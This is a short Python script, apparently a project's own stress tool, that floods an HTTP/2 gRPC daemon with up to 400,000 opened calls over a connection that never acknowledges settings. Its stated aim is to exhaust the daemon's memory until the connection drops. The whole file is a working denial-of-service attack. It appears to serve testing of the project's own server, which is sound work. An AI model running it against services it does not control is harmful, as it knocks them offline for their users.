#!/usr/bin/env python3
"""Takes a daemon's memory by a way that it does not limit (docs/operations.md, "Out of scope"), until it is gone: a
connection that never acknowledges HTTP/2's settings opens calls without a message.
usage: flood.py HOST:PORT"""

import pathlib
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "e2e"))
from http2_helpers import PREFACE, SETTINGS, connect, frame, open_call  # noqa: E402

MAX_CALLS = 400_000
METHOD = "/kvcompress.v1.KvCompression/Metrics"

connection = connect(sys.argv[1])
connection.sendall(PREFACE + frame(SETTINGS))
for first in range(0, MAX_CALLS, 100):
    try:
        connection.sendall(b"".join(open_call(2 * number + 1, METHOD) for number in range(first, first + 100)))
    except OSError:
        print(f"gone after {first} calls")
        sys.exit(0)
sys.exit(f"{sys.argv[1]} took {MAX_CALLS} calls")
